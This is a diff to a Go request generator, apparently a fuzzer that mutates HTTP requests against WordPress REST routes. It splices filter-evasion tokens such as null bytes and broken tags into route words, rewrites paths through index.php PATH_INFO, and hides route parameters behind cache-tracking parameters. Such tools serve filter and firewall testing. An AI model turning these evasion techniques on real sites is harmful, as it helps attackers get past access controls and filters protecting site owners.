@@ -48,18 +48,22 @@ func (g *Generator) bodyOfGet(r *Request, aim *Aim) {
 	r.Body = pick(g, `{"id":"`+id+`"}`, `{"rest_route":"`+aim.Route+`"}`)
 }
 
-// put writes text somewhere into the target or a form.
+// put writes text somewhere into the target or a form, mostly into a word that decides.
 func (g *Generator) put(r *Request, text string) {
 	into := &r.Target
 	if isForm(r) && g.oneIn(2) {
 		into = &r.Body
 	}
 	at := g.IntN(len(*into) + 1)
+	word := pick(g, "rest_route", "rest_route", "wp-json", "canary", "_method")
+	if i := strings.Index(*into, word); i >= 0 && !g.oneIn(3) {
+		at = i + 1 + g.IntN(len(word)-1)
+	}
 	*into = (*into)[:at] + text + (*into)[at:]
 }
 
 // tagged puts in what a filter of PHP takes out (filter.default).
-func (g *Generator) tagged(r *Request, _ *Aim) {
+func (g *Generator) tagged(r *Request, aim *Aim) {
 	r.note("what a filter takes out")
 	tag := pick(g, "<b>", "%3Cb%3E", "<", "%3C", "%60", "%01", "%00", "'", "%22", "<<b>\">\">", "%3C?a%3E", "<!--->")
 	if len(r.Fields) > 0 && g.oneIn(4) {
@@ -72,6 +76,9 @@ func (g *Generator) tagged(r *Request, _ *Aim) {
 		at := g.IntN(len(r.Method) + 1)
 		r.Method = r.Method[:at] + "`" + r.Method[at:]
 		return
+	}
+	if strings.HasPrefix(r.Target, aim.Base+"/wp-json") && g.oneIn(2) { // PATH_INFO
+		r.Target = aim.Base + "/index.php" + r.Target[len(aim.Base):]
 	}
 	g.put(r, tag)
 }
@@ -108,7 +115,7 @@ func (g *Generator) lineEnds(r *Request, aim *Aim) {
 func (g *Generator) cut(r *Request, aim *Aim) {
 	r.note("a parameter that caches cut out")
 	name := pick(g, "utm_source", "gclid", "utm_x", "fbclid")
-	if g.oneIn(3) {
+	if g.oneIn(2) {
 		r.Target = aim.Base + pick(g, "/?rest_route&"+name+"=x="+aim.Route, "/?"+name+"=x+rest_route="+aim.Route, "/?rest_r"+name+"=x&oute="+aim.Route, "/?rest_route="+aim.Decoy+"&"+name+"=x/.."+aim.Route)
 		return
 	}
